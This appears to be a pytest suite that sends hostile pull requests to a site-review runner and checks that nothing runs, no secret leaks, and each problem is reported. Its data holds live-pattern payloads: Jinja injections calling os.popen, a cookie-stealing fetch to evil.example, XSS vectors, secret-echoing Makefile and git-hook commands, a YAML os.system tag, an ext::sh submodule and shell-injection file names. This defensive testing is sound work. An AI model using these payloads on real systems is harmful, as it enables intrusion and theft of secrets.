"""Hostile pull requests, one by one, checked as a runner does with a secret in its surroundings.

Of each: nothing it brings is run, the secret leaves the runner nowhere, and the comment says clearly what is wrong.
"""

from __future__ import annotations

import re
import struct
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from honorhall.ground.messages import blocks, say
from honorhall.ground.problem import Place, Problem
from tests.house import SMALL
from tests.house import run as run_command
from tests.reviewing.forge import CANARY, Files, Forge, Ran, git
from tests.test_special_cases import bomb

STORY = "---\ntitle: 示例：雨夜\nsample: true\n---\n雨下了一夜。\n"
PICTURED = "---\ntitle: 示例：雨夜\nsample: true\nmedia: {file: gate.png, alt: 馆门}\n---\n雨下了一夜。\n"
JINJA = (
    "{{ 7 * 191 }}{{ cycler.__init__.__globals__.os.popen('touch RAN').read() }}"
    "{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}"
)
SHELL = "\n\techo $$SECRET_TOKEN; touch RAN\n"
PYTHON = "import os, pathlib\npathlib.Path('RAN').write_text(os.environ.get('SECRET_TOKEN', 'ran'))\n"
HOOKS = SMALL["mkdocs.yml"] + "\nhooks: [content/pages/hook.py]\ntheme: {name: material, custom_dir: content/pages}\n"
EVIL_WORKFLOW = (
    "on: pull_request\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - run: touch RAN\n"
    "        env: {TOKEN: '${{ secrets.SECRET_TOKEN }}'}\n"
)
ALIASES = "a: &a [甲, 乙, 丙]\n" + "".join(
    f"{now}: &{now} [{', '.join([f'*{before}'] * 9)}]\n" for before, now in zip("abcdefgh", "bcdefghi", strict=True)
)
SCRIPTS = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>\n\n<img src=x onerror=alert(1)>\n\n"
    "[点这里](javascript:alert(1))\n\n<svg onload=alert(1)></svg>\n\n<iframe src='https://evil.example'></iframe>\n\n"
    "![图](https://evil.example/pixel.png)\n"
)
NAMES = ("stories/$(touch RAN).md", "stories/`touch RAN`.md", "stories/a;touch RAN;.md", "stories/--upload-pack=x.md")
MANY = tuple(f"content/teams/t{number}.yml" for number in range(1_200))
LINES = "stories/a\n::set-output name=x::y\n::add-mask::b.md"


def objects(*entries: tuple[str, str, bytes]) -> Callable[[Path], None]:
    """Entries put straight into a tree, past all that git would check of a path: (mode, path, bytes or target)."""

    def put(clone: Path) -> None:
        for mode, path, data in entries:
            blob = git(clone, "rev-parse", "HEAD") if mode == "160000" else _blob(clone, data)
            git(clone, "update-index", "--add", "--index-info", given=f"{mode} {blob}\t{path}".encode())

    return put


def upwards(clone: Path) -> None:
    """A tree with entries named "..", which no git would let anybody add."""
    blob = bytes.fromhex(_blob(clone, STORY.encode()))
    up = _tree(clone, b"100644 RAN\x00" + blob)
    stories = _tree(clone, b"40000 ..\x00" + bytes.fromhex(up) + b"100644 first.md\x00" + blob)
    rest = git(clone, "ls-tree", "HEAD").splitlines()
    kept = [row for row in rest if not row.endswith("\tstories")]
    whole = git(clone, "mktree", given="\n".join([*kept, f"040000 tree {stories}\tstories\n"]).encode())
    commit = git(clone, "commit-tree", whole, "-p", "HEAD", "-m", "投稿")
    git(clone, "reset", "--soft", commit)


def _blob(clone: Path, data: bytes) -> str:
    return git(clone, "hash-object", "-w", "--stdin", given=data)


def _tree(clone: Path, data: bytes) -> str:
    return git(clone, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", given=data)


def large() -> bytes:
    """A picture of 200 MB."""
    return b"\xff\xd8\xff\xe0" + bytes(200_000_000)


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent. codes: (rule, file) of all that has to be told of it; shown: its page is built all the same;
    alone: it is a pull request by itself.
    """

    files: Files
    codes: tuple[tuple[str, str], ...]
    put: Callable[[Path], object] = bool
    shown: str = ""
    alone: bool = False

    @property
    def branch(self) -> str:
        """What cannot be seen beside others has a branch of its own; else the grave stand together, and the others."""
        if self.alone:
            return self.codes[0][0]
        return "grave" if any(blocks(Problem(code, Place(""))) for code, _ in self.codes) else "mild"


def elsewhere(*files: str) -> tuple[tuple[str, str], ...]:
    return tuple(("sent-elsewhere", file) for file in files)


ATTACKS: dict[str, Attack] = {
    "template-injection": Attack(
        {
            "stories/rain.md": STORY.replace("雨夜", "雨夜 {{ 7 * 191 }}") + JINJA,
            "content/teams/brook.yml": 'title: "示例 {{ 7 * 191 }}"\nsample: true\nlevel: 市级\nregion: "1201"\n',
            "content/pages/about.md": f"---\ntitle: 关于\ntemplate: evil.html\n---\n\n# 关于\n\n{JINJA}\n",
        },
        (),
        shown="stories/rain/",
    ),
    "changed-templates": Attack(
        {
            "stories/r2.md": STORY,
            "templates/story.html": f"{JINJA}{{{{ body }}}}",
            "templates/frame/main.html": JINJA,
        },
        elsewhere("templates/story.html", "templates/frame/main.html"),
        shown="stories/r2/",
    ),
    "changed-makefile": Attack(
        {
            "stories/r3.md": STORY,
            "Makefile": f"review:{SHELL}.venv/site.stamp:{SHELL}",
            "GNUmakefile": f"review:{SHELL}",
        },
        elsewhere("Makefile", "GNUmakefile"),
        shown="stories/r3/",
    ),
    "changed-workflow": Attack(
        {"stories/r4.md": STORY, ".github/workflows/check.yml": EVIL_WORKFLOW},
        elsewhere(".github/workflows/check.yml"),
        shown="stories/r4/",
    ),
    "changed-program": Attack(
        {
            "honorhall/__init__.py": PYTHON,
            "requirements/site.lock": "evil==1.0\n",
            "pyproject.toml": "[build-system]\nrequires = ['evil']\n",
        },
        elsewhere("honorhall/__init__.py", "requirements/site.lock", "pyproject.toml"),
    ),
    "mkdocs-hooks": Attack(
        {"mkdocs.yml": HOOKS, "content/pages/hook.py": PYTHON, "content/pages/main.html": JINJA},
        (
            ("sent-elsewhere", "mkdocs.yml"),
            ("sent-kind", "content/pages/hook.py"),
            ("sent-kind", "content/pages/main.html"),
        ),
    ),
    "python-that-starts-by-itself": Attack(
        {
            "conftest.py": PYTHON,
            "sitecustomize.py": PYTHON,
            "evil.pth": PYTHON.replace("\n", ";"),
            "stories/sitecustomize.py": PYTHON,
        },
        (*elsewhere("conftest.py", "sitecustomize.py", "evil.pth"), ("sent-kind", "stories/sitecustomize.py")),
    ),
    "git-hooks-and-filters": Attack(
        {
            ".gitattributes": "* filter=evil diff=evil\n",
            ".githooks/post-checkout": f"#!/bin/sh{SHELL}",
            ".gitconfig": '[filter "evil"]\n\tsmudge = touch RAN\n[core]\n\thooksPath = .githooks\n',
            "stories/.gitattributes": "* filter=evil\n",
        },
        (
            *elsewhere(".gitattributes", ".githooks/post-checkout", ".gitconfig"),
            ("sent-name", "stories/.gitattributes"),
        ),
    ),
    "symlinks": Attack(
        {"stories/l1.md": STORY},
        (("sent-link", "stories/gate.md"), ("sent-link", "content/people/all"), ("sent-elsewhere", "templates/up")),
        objects(
            ("120000", "stories/gate.md", b"/proc/self/environ"),
            ("120000", "content/people/all", b"../../.."),
            ("120000", "templates/up", b"/etc"),
        ),
    ),
    "submodule": Attack(
        {
            "stories/l2.md": STORY,
            ".gitmodules": '[submodule "x"]\n\tpath = stories/x\n\turl = ext::sh -c "touch RAN"\n',
        },
        (("sent-repository", "stories/x"), ("sent-elsewhere", ".gitmodules")),
        objects(("160000", "stories/x", b"")),
    ),
    "media-that-leads-out": Attack(
        {
            "stories/out.md": PICTURED.replace("gate.png", "../../../../proc/self/environ")
            + "\n![图](../mkdocs.yml)\n![图](/etc/passwd)\n",
        },
        (("media-outside", "stories/out.md"),),
    ),
    "picture-of-200-mb": Attack(
        {"stories/large/index.md": PICTURED.replace(".png", ".jpg"), "stories/large/gate.jpg": large()},
        (("sent-too-large", "stories/large/gate.jpg"), ("media-missing", "stories/large/index.md")),
    ),
    "picture-that-unpacks-to-billions": Attack(
        {"stories/bomb/index.md": PICTURED, "stories/bomb/gate.png": bomb()},
        (("media-too-large", "stories/bomb/index.md"),),
    ),
    "yaml-bomb": Attack(
        {"content/teams/bomb.yml": ALIASES},
        (("yaml-alias-endless", "content/teams/bomb.yml"),),
    ),
    "yaml-that-makes-objects": Attack(
        {"content/teams/tag.yml": "title: !!python/object/apply:os.system ['touch RAN']\n"},
        (("yaml-tag", "content/teams/tag.yml"),),
    ),
    "script-in-markdown": Attack(
        {"stories/script.md": f"{STORY}\n{SCRIPTS}"}, (("media-outside", "stories/script.md"),)
    ),
    "script-in-a-page-by-hand": Attack(
        {"content/pages/rain.md": f'# 雨夜\n\n{SCRIPTS}\n\n--8<-- "../../Makefile"\n'}, (), shown="rain/"
    ),
    "names-for-a-shell": Attack(dict.fromkeys(NAMES, STORY), tuple(("sent-name", name) for name in NAMES)),
    "names-for-a-log": Attack(
        {LINES: STORY, "::set-env name=PATH::x": "", "stories/\u202egnp.md": STORY},
        (
            ("sent-name", "stories/a\\n：：set-output name=x：：y\\n：：add-mask：：b.md"),
            ("sent-elsewhere", "：：set-env name=PATH：：x"),
            ("sent-name", "stories/\\u202egnp.md"),
        ),
    ),
    "program-among-the-stories": Attack(
        {"stories/r5.md": STORY},
        (("sent-executable", "stories/run.md"),),
        objects(("100755", "stories/run.md", STORY.encode())),
        shown="stories/run/",
    ),
    "thousands-of-files": Attack(dict.fromkeys(MANY, ""), (("sent-too-much", sorted(MANY)[1_000]),), alone=True),
}


@pytest.fixture(scope="module")
def runs(forge: Forge) -> dict[str, Ran]:
    """What each branch of attacks came to."""
    made: dict[str, Ran] = {}
    for branch in {attack.branch for attack in ATTACKS.values()}:
        attacks = [attack for attack in ATTACKS.values() if attack.branch == branch]
        clone = forge.branch(branch, {path: text for one in attacks for path, text in one.files.items()})
        for one in attacks:
            one.put(clone)
        forge.send(clone)
        made[branch] = forge.check(branch)
    return made


def test_no_two_attacks_of_a_branch_write_the_same_file():
    for branch in ("grave", "mild"):
        paths = [path for one in ATTACKS.values() if one.branch == branch for path in one.files]
        assert len(paths) == len(set(paths))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_pull_request_runs_nothing_and_is_told_of(name, runs, forge):
    attack = ATTACKS[name]
    run = runs[attack.branch]
    assert [str(path) for path in forge.scratch.parent.rglob("RAN")] == []
    assert _untold(attack, run) == []
    assert (run.code != 0) is (attack.branch != "mild"), run.told
    if attack.shown:
        page = (run.folder / "review/after" / attack.shown / "index.html").read_text(encoding="utf-8")
        main = page.partition("<article")[2].partition("</article>")[0]
        assert "雨" in main
        assert "1337" not in main
        assert not re.search(r"<script|<iframe|<svg on|onerror=|javascript:|evil\.example/pixel|\.PHONY", main)


def test_a_tree_that_leads_out_is_refused_by_git_on_a_runner_and_told_of_at_home(forge, tmp_path):
    clone = forge.branch("upwards", {})
    upwards(clone)
    forge.send(clone)
    home = forge.clone("home")
    refused = subprocess.run(("git", "checkout", "origin/upwards"), cwd=home, capture_output=True, check=False)
    assert b"invalid path" in refused.stderr
    done = run_command(
        "review", "--root", str(home), "--base", "main", "--head", "origin/upwards", "--out", str(tmp_path)
    )
    assert done.code == 1
    assert "stories/../RAN  须改 error  [sent-name]" in done.told
    assert [str(path) for path in forge.scratch.rglob("RAN")] == []


def test_no_hostile_pull_request_carries_the_secret_away_or_commands_the_log(runs):
    for run in runs.values():
        assert CANARY.encode() not in run.everything()
        assert re.findall(r"^::(?!error |warning |notice )\S+", run.told, re.MULTILINE) == []


def _untold(attack: Attack, run: Ran) -> list[tuple[str, str]]:
    """What the Chinese part of the comment fails to say."""
    chinese = run.comment.partition("<details>")[0]
    rows = {row for row in re.split(r"\n(?:\d+\. |- )", chinese) if "：" in row}
    return [
        (code, file)
        for code, file in attack.codes
        if not any(row.startswith(f"`{file.replace('`', '´')}`") and _words(code) in row for row in rows)
    ]


def _words(code: str) -> str:
    """The first words of a message that hold no fact."""
    facts = dict.fromkeys(("file", "size", "limit", "known", "files", "tag", "detail"), "")
    return max(
        re.split(r"[“”（）：。\x00]", say(Problem(code, Place(""), {**facts, "file": "\x00"}), "zh").what), key=len
    )


def test_every_attack_is_one_that_was_asked_for_or_more():
    asked = {"template-injection", "changed-makefile", "changed-workflow", "symlinks", "media-that-leads-out"}
    assert asked | {"picture-of-200-mb", "yaml-bomb", "script-in-markdown"} <= set(ATTACKS)


@pytest.mark.parametrize("length", [30])
def test_a_bomb_of_a_few_bytes_says_that_it_is_billions(length):
    width, height = struct.unpack(">II", bomb()[16:24])
    assert width * height > 10**9
    assert len(bomb()) < length * 4
    assert zlib.crc32(bomb()[12:29]) == int.from_bytes(bomb()[29:33], "big")
